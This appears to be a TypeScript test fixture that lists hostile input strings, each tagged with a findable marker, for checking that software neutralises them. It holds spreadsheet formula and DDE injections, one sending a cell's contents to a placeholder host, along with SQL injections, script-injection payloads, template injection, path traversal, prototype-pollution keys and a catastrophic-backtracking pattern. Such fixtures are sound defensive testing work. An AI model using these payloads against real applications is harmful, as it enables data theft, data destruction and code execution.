/** Texts that do something where a text is not only a text. `mark` is in each, so that it can be found again. */
export const mark = 'hiểm';

export const hostileTexts = {
  formula: `=HYPERLINK("http://x.example/?"&A1,"${mark}")`,
  command: `=cmd|' /C calc'!'${mark}'`,
  plus: `+1+cmd|' ${mark}'!A0`,
  minus: `-1+1 ${mark}`,
  at: `@SUM(1+1) ${mark}`,
  tab: `\t=2+2 ${mark}`,
  sql: `${mark}'; DROP SCHEMA main CASCADE; --`,
  attach: `${mark}'); ATTACH 'evil.duckdb' AS evil; --`,
  identifier: `${mark}" OR 1=1; --`,
  script: `<script>window.evil=1</script>${mark}`,
  image: `<img src=x onerror="window.evil=1">${mark}`,
  closing: `</w:t></w:r></svg></text><script>evil()</script>${mark}`,
  entity: `&${mark}; &#60;script&#62;`,
  template: `{{constructor.constructor('return process')()}} \${process} {n} ${mark}`,
  path: `../../../../${mark}`,
  windowsPath: `..\\..\\CON\\${mark} win`,
  prototype: '__proto__',
  constructorName: 'constructor',
  pattern: `(${mark}+)+$ [a-z]{1,99999}`,
  wildcard: `%_\\% ${mark} mọi`,
  control: `a\u0001b\u202e\u0085\ufffe\ud800 ${mark}`,
} as const;

export const hostile: readonly string[] = Object.values(hostileTexts);
